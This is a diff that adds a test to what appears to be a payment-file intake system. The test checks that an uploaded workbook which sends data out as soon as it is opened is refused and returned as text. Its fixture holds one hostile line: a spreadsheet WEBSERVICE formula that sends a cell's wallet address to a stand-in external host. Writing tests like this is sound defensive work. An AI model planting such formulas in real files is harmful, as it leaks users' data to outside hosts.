@@ -14,6 +14,7 @@ import {
 import { join } from "node:path";
 import { describe, expect, test } from "vitest";
 import { intakeStep, submitFile } from "../../src/index.ts";
+import { workbook } from "../intake/workbook-fixture.ts";
 import { openPlace } from "./workplace.ts";
 
 const HEADER = "reference,accountId,currency,amount,destinationAddress\n";
@@ -146,4 +147,24 @@ describe("nothing is taken", () => {
     expect(problems.at(-1)).toMatchObject({ code: "CONFIG_KEY_INVALID", key: "files.senders" });
     expect(readdirSync(join(folder, "elsewhere"))).toEqual(["a.csv"]);
   });
+});
+
+test("a workbook that would send something as soon as it is opened comes back as words, not as a workbook", async () => {
+  const { folder, workplace } = openInbox();
+  const cells = (line: number, texts: readonly string[]) =>
+    texts
+      .map((text, index) => `<c r="${"ABC"[index]}${line}" t="inlineStr"><is><t>${text}</t></is></c>`)
+      .join("");
+  const formula = '<c r="D2" t="str"><f>_xlfn.WEBSERVICE("https://x.example/?"&amp;C2)</f><v/></c>';
+  const rows = [
+    `<row r="1">${cells(1, ["reference", "amount", "destinationAddress"])}</row>`,
+    `<row r="2">${cells(2, ["SENDS-1", "0.01", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"])}${formula}</row>`,
+  ];
+  const path = join(folder, "sends.xlsx");
+  writeFileSync(path, workbook({ sheets: [{ name: "Payouts", rows: rows.join("") }] }));
+  expect(await submitFile(workplace, path, "alice")).toMatchObject({
+    verdict: "refused",
+    problems: [{ code: "WORKBOOK_IS_ACTIVE", cell: "D2" }],
+  });
+  expect(readdirSync(join(folder, "outbox"))).toEqual(["sends.rejected.xlsx.txt"]);
 });
